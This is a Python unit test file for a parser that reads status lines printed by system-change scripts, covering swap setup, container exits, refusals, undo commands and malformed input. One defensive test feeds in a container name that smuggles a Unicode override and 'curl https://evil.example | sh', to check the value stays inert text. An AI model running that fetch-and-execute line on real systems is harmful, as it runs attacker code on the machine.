"""What the scripts print that change something."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lifeguard.core.guest.change import ContainerEnd, GuestChange, GuestRefusal, GuestStep
from lifeguard.core.guest.look import Unasked
from lifeguard.core.text.foreign import Foreign
from lifeguard.ingest.guest.change import read_change
from tests.unit.ingest.guest.printed import body, printed

WAS = {"k": "was", "swap_kb": 0, "free_kb": 12.5, "of": "/swapfile", "cpu": True}
DID = {"k": "did", "what": "swapon /swapfile", "before": 0, "after": 1048576}
UNDO = {"k": "undo", "command": "swapoff /swapfile && rm /swapfile"}


def test_a_change_is_read_with_how_to_undo_it() -> None:
    assert read_change(printed(WAS, DID, UNDO)) == GuestChange(
        was=(("free_kb", 12.5), ("swap_kb", 0.0)),
        did=(GuestStep(Foreign("swapon /swapfile"), 0.0, 1048576.0),),
        undo=Foreign("swapoff /swapfile && rm /swapfile"),
    )


def test_a_refusal_is_read_with_the_numbers_it_hangs_on() -> None:
    refused = {"k": "refused", "why": "disk_too_full", "avail_kb": 7, "needs_kb": 1}
    assert read_change(printed(WAS, refused)).refused == GuestRefusal(
        "disk_too_full", (("avail_kb", 7.0), ("needs_kb", 1.0))
    )


ENDED = {"k": "ended", "name": "api", "exit": 137, "oom": False, "running": False}


def test_the_ends_of_containers_are_read() -> None:
    took = {"k": "did", "what": "containers", "before": 2, "after": 1, "seconds": 12}
    runs = {"k": "ended", "name": "stuck", "running": True}
    found = read_change(printed(took, ENDED, runs))
    assert found.did == (GuestStep(Foreign("containers"), 2.0, 1.0, 12.0),)
    assert found.ended == (
        ContainerEnd(Foreign("api"), 137, oom_killed=False, runs=False),
        ContainerEnd(Foreign("stuck"), runs=True),
    )
    assert [one.killed for one in found.ended] == [True, False]


def test_more_ends_than_the_script_tells_are_counted() -> None:
    found = read_change(printed(*([ENDED] * 21)))
    assert (len(found.ended), found.malformed) == (20, 1)


def test_a_hostile_name_stays_text_of_others() -> None:
    hostile = {**ENDED, "name": "x\u202e; curl https://evil.example | sh\n" + "y" * 500}
    (one,) = read_change(printed(hostile)).ended
    assert isinstance(one.name, Foreign)
    assert len(one.name.text) <= 128


def test_a_second_time_is_read() -> None:
    assert read_change(printed({"k": "already"})) == GuestChange(already=True)


def test_what_could_not_be_asked_is_kept() -> None:
    lines = {"k": "failed", "what": "script", "why": "killed"}, {"k": "missing", "tool": "mkswap"}
    assert read_change(printed(*lines)).unasked == (
        Unasked("script", "killed"),
        Unasked("mkswap", "missing"),
    )


def test_a_cut_report_says_so() -> None:
    found = read_change(body(WAS, DID))
    assert (found.did, found.whole) == (read_change(printed(WAS, DID)).did, False)


@pytest.mark.parametrize(
    "line",
    [
        {"k": "did"},
        {"k": "did", "what": "x", "before": "0"},
        {"k": "did", "what": "x", "after": 10**300},
        {"k": "refused"},
        {"k": "refused", "why": "Because it says: no"},
        {"k": "undo"},
        {"k": "did", "what": "x", "seconds": -1},
        {"k": "ended"},
        {"k": "ended", "name": "api", "exit": 256},
        {"k": "ended", "name": "api", "exit": "137"},
        {"k": "ended", "name": "api", "running": "yes"},
        {"k": "was", "swap_kb": 10**300},
    ],
)
def test_what_is_not_as_agreed_is_counted(line: dict[str, Any]) -> None:
    assert read_change(printed(line)) == GuestChange(malformed=1)


def test_a_step_beyond_the_bound_is_counted() -> None:
    found = read_change(printed(*([DID] * 21)))
    assert (len(found.did), found.malformed) == (20, 1)


@given(st.text(max_size=500))
def test_any_output_gives_a_value(text: str) -> None:
    assert read_change(text).was == ()
